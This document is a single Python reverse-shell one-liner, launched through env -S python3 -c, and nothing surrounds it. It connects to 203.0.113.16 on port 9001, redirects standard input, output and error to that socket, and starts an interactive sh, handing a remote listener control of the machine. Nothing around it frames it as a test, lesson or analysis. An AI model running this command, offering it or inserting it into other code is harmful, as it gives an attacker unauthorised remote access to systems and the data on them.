env -S python3 -c 'import os,socket,subprocess;s=socket.create_connection(("203.0.113.16",9001));[os.dup2(s.fileno(),i) for i in range(3)];subprocess.call(["sh","-i"])'
